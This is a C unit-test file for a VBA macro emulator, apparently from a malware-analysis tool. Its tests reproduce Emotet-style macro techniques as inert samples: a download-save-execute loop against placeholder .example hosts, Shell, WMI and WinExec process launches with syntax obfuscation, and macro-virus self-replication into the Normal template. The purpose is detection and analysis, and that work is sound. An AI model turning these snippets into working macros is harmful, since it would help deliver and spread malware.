/* What the macros of Emotet's mails of 2019 to 2021 use of the language and of Office, each habit a test by its name, in the order of
 * the list that was counted over real projects. All of it is inert: hosts under .example, programs that do not exist. The habits
 * of its workbooks without VBA are in xlm_run_test.c (downloads_fail_then_succeed). */
#include "unit/emulate/vba/ran.h"

#include <stdio.h>
#include <string.h>

static void expect(const char *source, const char *lines)
{
    ran r;
    const char *got = ran_text(&r, source, false);
    if (strcmp(got, lines) != 0) fail_msg("wanted:\n%sgot:\n%s", lines, got);
    assert_int_equal(r.result.lines_broken, 0);
    ran_end(&r);
}

static void expect_in(const char *body, const char *lines)
{
    char source[4096];
    snprintf(source, sizeof source, "Sub AutoOpen()\n%s\nEnd Sub\n", body);
    expect(source, lines);
}

/* ---- controls on the page ---- */

static void add_module(sk_document *d, const char *name, sk_module_type type, const char *source)
{
    sk_doc_module row = {.name = sk_bytes_str(name), .type = type, .source = sk_bytes_str(source), .codepage = 1252, .artifact = 3};
    assert_non_null(sk_document_add_module(d, &row));
}

/* A text box of the document, and code in a module that reads it by an expression. */
static void expect_control(const char *expression)
{
    char code[256];
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = sk_document_new(r.arena, 1);
    assert_non_null(d);
    snprintf(code, sizeof code, "Sub go()\nMsgBox %s\nEnd Sub\n", expression);
    add_module(d, "Page", SK_MODULE_DOCUMENT, "Private Sub Document_Open()\ngo\nEnd Sub\n");
    add_module(d, "Module1", SK_MODULE_PROCEDURAL, code);
    sk_doc_value row = {.store = SK_STORE_CONTROL, .container = SK_LIT("Page"), .name = SK_LIT("Box"), .property = SK_LIT("Value"), .value = SK_LIT("kept")};
    assert_non_null(sk_document_add_value(d, &row));
    sk_vba_run_document(w, d, &r.result);
    if (strcmp(ran_lines(&r), "message: kept\n") != 0) fail_msg("%s: %s", expression, ran_lines(&r));
    ran_end(&r);
}

static void control_by_its_module(void **state) { (void)state; expect_control("Page.Box.Value"); }
static void control_by_this_document(void **state) { (void)state; expect_control("ThisDocument.Box.Value"); }
static void control_with_its_default_property(void **state) { (void)state; expect_control("Page.Box"); }

static void control_bare_in_its_module(void **state)
{
    (void)state;
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = sk_document_new(r.arena, 1);
    add_module(d, "Page", SK_MODULE_DOCUMENT, "Private Sub Document_Open()\nMsgBox Box & Box.Value\nEnd Sub\n");
    sk_doc_value row = {.store = SK_STORE_CONTROL, .container = SK_LIT("Page"), .name = SK_LIT("Box"), .property = SK_LIT("Value"), .value = SK_LIT("k")};
    assert_non_null(sk_document_add_value(d, &row));
    sk_vba_run_document(w, d, &r.result);
    assert_string_equal(ran_lines(&r), "message: kk\n");
    ran_end(&r);
}

/* ---- what is not known ---- */

static void undeclared_name_is_empty(void **state)
{
    (void)state;
    expect_in("Dim a(3)\na(junk) = \"x\"\nMsgBox a(0) & junk & Len(other) & (third + 1)", "message: x01\n");
}

static void unknown_comes_from_outside_objects_only(void **state)
{
    (void)state;
    expect_in("If junk Then MsgBox 1 Else MsgBox 2\nIf ActiveDocument.Strange Then MsgBox 3 Else MsgBox 4", "message: 2\nmessage: 3\nmessage: 4\n");
}

static void count_of_what_is_not_modelled_is_0(void **state) { (void)state; expect_in("MsgBox ActiveDocument.Tables.Count", "message: 0\n"); }

static void loop_on_an_unknown_condition_ends(void **state)
{
    (void)state;
    expect_in("Do While Application.Strange(1) = 2\nMsgBox \"in\"\nLoop\nMsgBox \"out\"", "message: in\nmessage: out\n");
}

static void if_on_something_unknown_runs_both_ways(void **state)
{
    (void)state;
    expect_in("If Application.Strange > 3 Then\nMsgBox 1\nElse\nMsgBox 2\nEnd If", "message: 1\nmessage: 2\n");
}

/* ---- errors ---- */

static void error_in_the_head_of_if_goes_on_inside(void **state)
{
    (void)state;
    expect_in("On Error Resume Next\nIf Log(0) = 1 Then\nMsgBox \"in\"\nElse\nMsgBox \"else\"\nEnd If", "message: in\n");
}

static void error_in_the_head_of_for_each_enters_once(void **state)
{
    (void)state;
    expect_in("On Error Resume Next\nFor Each x In nowhere\nMsgBox \"in\"\nNext\nMsgBox \"out\"", "message: in\nmessage: out\n");
}

static void error_in_the_head_of_while_goes_on_inside(void **state)
{
    (void)state;
    expect_in("On Error Resume Next\nWhile Sqr(-1) > 0\nMsgBox \"in\"\nGoTo done\nWend\ndone:", "message: in\n");
}

static void error_in_the_head_of_with_goes_on_inside(void **state)
{
    (void)state;
    expect_in("On Error Resume Next\nWith nowhere\nMsgBox \"in\"\nEnd With", "message: in\n");
}

static void number_of_log_0(void **state) { (void)state; expect_in("On Error Resume Next\nx = Log(0)\nMsgBox Err", "message: 5\n"); }
static void number_of_sqr_minus_1(void **state) { (void)state; expect_in("On Error Resume Next\nx = Sqr(-1)\nMsgBox Err", "message: 5\n"); }
static void number_of_cbyte_955(void **state) { (void)state; expect_in("On Error Resume Next\nx = CByte(955)\nMsgBox Err", "message: 6\n"); }
static void number_of_0_by_0(void **state) { (void)state; expect_in("On Error Resume Next\nx = 0 / 0\nMsgBox Err", "message: 6\n"); }
static void number_of_chrb_960(void **state) { (void)state; expect_in("On Error Resume Next\nx = ChrB(960)\nMsgBox Err", "message: 6\n"); }
static void null_and_a_text_is_the_text(void **state) { (void)state; expect_in("MsgBox Null & \"s\"", "message: s\n"); }

/* ---- results of acts ---- */

static void create_answers_0(void **state)
{
    (void)state;
    expect_in("MsgBox GetObject(\"winmgmts:Win32_Process\").Create(\"a.invalid\", Null, Null, pid)", "run: a.invalid\nmessage: 0\n");
}

static void loop_around_create_ends(void **state)
{
    (void)state;
    expect_in("Set p = GetObject(\"winmgmts:Win32_Process\")\nDo While p.Create(\"a.invalid\", Null, Null, pid)\nLoop\nMsgBox \"done\"", "run: a.invalid\nmessage: done\n");
}

static void run_answers_0(void **state)
{
    (void)state;
    expect_in("MsgBox CreateObject(\"WScript.Shell\").Run(\"a.invalid\", 0, True)", "run: a.invalid\nmessage: 0\n");
}

static void shell_answers_a_pid(void **state) { (void)state; expect_in("If Shell(\"a.invalid\") > 0 Then MsgBox \"started\"", "run: a.invalid\nmessage: started\n"); }

static const char fetching[] = "On Error Resume Next\nFor Each u In Split(\"http://a.example/1,http://b.example/2,http://c.example/3\", \",\")\n"
                               "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", u, False\nh.send\nIf h.Status = 200 Then\nSet s = CreateObject(\"ADODB.Stream\")\n"
                               "s.Type = 1\ns.Open\ns.Write h.responseBody\ns.SaveToFile \"C:\\Users\\d.exe\", 2\nIf FileLen(\"C:\\Users\\d.exe\") > 45000 Then\n"
                               "Shell \"C:\\Users\\d.exe\"\nExit For\nEnd If\nEnd If\nNext";

static void loop_of_downloads_fails_then_succeeds(void **state)
{
    (void)state;
    expect_in(fetching, "download: http://a.example/1\ndownload: http://b.example/2\ndownload: http://c.example/3\ndownload: http://a.example/1\n"
                        "read: http://a.example/1\nwrite: C:\\Users\\d.exe\nrun: C:\\Users\\d.exe\n");
}

static void file_is_long_enough(void **state)
{
    (void)state;
    ran r;
    char source[2048];
    snprintf(source, sizeof source, "Sub AutoOpen()\n%s\nEnd Sub\n", fetching);
    assert_non_null(strstr(ran_text(&r, source, false), "run: C:\\Users\\d.exe\n"));
    ran_end(&r);
}

/* ---- ways of writing ---- */

static void type_suffix_on_create(void **state)
{
    (void)state;
    expect_in("Set p = GetObject(\"winmgmts:Win32_Process\")\nx = p.Create#(\"a.invalid\", Null, Null, pid)", "run: a.invalid\n");
}

static void type_suffix_on_shell(void **state) { (void)state; expect_in("x = Shell%(\"a.invalid\", 0)", "run: a.invalid\n"); }
static void brackets_around_shell(void **state) { (void)state; expect_in("a = \"a.invalid\"\n[Shell] a, 0", "run: a.invalid\n"); }
static void interaction_continued_to_shell(void **state) { (void)state; expect_in("Interaction _\n  .Shell \"a.invalid\", 0", "run: a.invalid\n"); }
static void continuation_around_dots(void **state) { (void)state; expect_in("VBA.Interaction _\n.  _\nShell \"a.invalid\"", "run: a.invalid\n"); }

static void continuation_inside_declarations(void **state)
{
    (void)state;
    expect("Private Declare Function _\n  start Lib \"kernel32\" _\n  Alias \"WinExec\" (ByVal a As String, _\n  ByVal b As Long) As Long\n"
           "Sub AutoOpen()\nstart \"a.invalid\", 0\nEnd Sub\n",
           "run: a.invalid\n");
}

static void acts_as_arguments_of_array(void **state)
{
    (void)state;
    expect_in("x = Array(junk, 5, Shell(\"a.invalid\"), 7)\nMsgBox UBound(x)", "run: a.invalid\nmessage: 3\n");
}

static void constant_of_vba_as_character(void **state) { (void)state; expect_in("MsgBox Chr(vbKeyP)", "message: P\n"); }
static void constant_of_word_as_character(void **state) { (void)state; expect_in("MsgBox ChrW(wdKeyS)", "message: S\n"); }
static void keystring_as_character(void **state) { (void)state; expect_in("MsgBox KeyString(67)", "message: C\n"); }

static void constants_of_all_libraries(void **state)
{
    (void)state;
    expect_in("MsgBox vbYesNo & \" \" & wdGoToBookmark & \" \" & xlUp & \" \" & msoTrue & \" \" & fmMultiSelectExtended & \" \" & adTypeBinary & \" \" & olMailItem",
              "message: 4 -1 -4162 -1 2 1 0\n");
}

static void global_members_of_word(void **state)
{
    (void)state;
    expect_in("MsgBox TypeName(Documents) & \" \" & (ActiveDocument.Name = Application.ActiveDocument.Name) & \" \" & CentimetersToPoints(2.54)",
              "message: Documents True 72\n");
}

static void global_members_of_excel(void **state)
{
    (void)state;
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = sk_document_new(r.arena, 1);
    sk_doc_sheet row = {.name = SK_LIT("Data"), .type = SK_SHEET_WORK};
    sk_doc_sheet *s = sk_document_add_sheet(d, &row);
    sk_doc_cell c = {.type = SK_CELL_TEXT, .text = SK_LIT("kept")};
    assert_non_null(s);
    assert_true(sk_document_add_cell(d, &r.budget, s, &c));
    add_module(d, "ThisWorkbook", SK_MODULE_DOCUMENT, "Private Sub Workbook_Open()\nMsgBox Cells(1, 1) & Range(\"A1\") & Sheets.Count & ActiveSheet.Name\nEnd Sub\n");
    sk_vba_run_document(w, d, &r.result);
    assert_string_equal(ran_lines(&r), "message: keptkept1Data\n");
    ran_end(&r);
}

static void sparse_array(void **state)
{
    (void)state;
    expect_in("ReDim x(87025)\nx(41) = \"a\": x(3) = \"b\": x(87025) = \".in\": x(500) = \"valid\"\nShell x(41) & x(3) & x(87025) & x(500)", "run: ab.invalid\n");
}

/* ---- macro viruses and other applications ---- */

static void code_module_is_replicated(void **state)
{
    (void)state;
    expect_in("s = ThisDocument.VBProject.VBComponents(1).CodeModule.Lines(1, 10)\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s",
              "replicate: Normal template.CodeModule\n");
}

static void has(const char *body, const char *line)
{
    char source[2048];
    ran r;
    snprintf(source, sizeof source, "Sub AutoOpen()\n%s\nEnd Sub\n", body);
    const char *got = ran_text(&r, source, false);
    if (!strstr(got, line)) fail_msg("wanted:\n%sgot:\n%s", line, got);
    ran_end(&r);
}

static void organizer_copy_is_replicated(void **state)
{
    (void)state;
    has("Application.OrganizerCopy Source:=ActiveDocument.FullName, Destination:=NormalTemplate.FullName, Name:=\"M\", Object:=wdOrganizerObjectProjectItems", "replicate: ");
}

static void startup_path_is_replicated(void **state)
{
    (void)state;
    has("ActiveWorkbook.SaveAs Application.StartupPath & \"\\own.xls\"", "replicate: ");
}

static void object_by_new_clsid(void **state)
{
    (void)state;
    expect_in("Set s = GetObject(\"new:{72C24DD5-D70A-438B-8A42-98424B88AFB8}\")\ns.Run \"a.invalid\", 0", "run: a.invalid\n");
}

static void outlook(void **state)
{
    (void)state;
    has("Set o = CreateObject(\"Outlook.Application\")\no.CreateObject(\"WScript.Shell\").Run \"a.invalid\"", "run: a.invalid\n");
}

static void internet_explorer(void **state)
{
    (void)state;
    has("Set i = CreateObject(\"InternetExplorer.Application\")\ni.Visible = False\ni.Navigate \"http://a.example/x\"", "download: http://a.example/x\n");
}

static void word_starts_excel(void **state)
{
    (void)state;
    has("Set x = CreateObject(\"Excel.Application\")\nx.Workbooks.Add\nx.ExecuteExcel4Macro \"EXEC(\"\"a.invalid\"\")\"\nMsgBox \"on\"", "message: on\n");
    has("Set x = CreateObject(\"Excel.Application\")\nx.DDEInitiate \"a\", \"b\"\nx.Workbooks.Open \"http://a.example/b.xls\"", "download: http://a.example/b.xls\n");
}

static void excel_starts_word(void **state)
{
    (void)state;
    has("Set x = CreateObject(\"Word.Application\")\nx.Documents.Open \"http://a.example/b.doc\"", "download: http://a.example/b.doc\n");
}

int main(void)
{
#define T(name) cmocka_unit_test(name)
    const struct CMUnitTest tests[] = {
        T(control_by_its_module), T(control_by_this_document), T(control_bare_in_its_module), T(control_with_its_default_property),
        T(undeclared_name_is_empty), T(unknown_comes_from_outside_objects_only), T(count_of_what_is_not_modelled_is_0),
        T(loop_on_an_unknown_condition_ends), T(if_on_something_unknown_runs_both_ways), T(error_in_the_head_of_if_goes_on_inside),
        T(error_in_the_head_of_for_each_enters_once), T(error_in_the_head_of_while_goes_on_inside), T(error_in_the_head_of_with_goes_on_inside),
        T(number_of_log_0), T(number_of_sqr_minus_1), T(number_of_cbyte_955), T(number_of_0_by_0), T(number_of_chrb_960), T(null_and_a_text_is_the_text),
        T(create_answers_0), T(loop_around_create_ends), T(run_answers_0), T(shell_answers_a_pid), T(file_is_long_enough),
        T(loop_of_downloads_fails_then_succeeds), T(type_suffix_on_create), T(type_suffix_on_shell), T(brackets_around_shell),
        T(interaction_continued_to_shell), T(continuation_around_dots), T(continuation_inside_declarations), T(acts_as_arguments_of_array),
        T(constant_of_vba_as_character), T(constant_of_word_as_character), T(keystring_as_character), T(constants_of_all_libraries),
        T(global_members_of_word), T(global_members_of_excel), T(sparse_array), T(code_module_is_replicated), T(organizer_copy_is_replicated),
        T(startup_path_is_replicated), T(object_by_new_clsid), T(outlook), T(internet_explorer), T(word_starts_excel), T(excel_starts_word),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
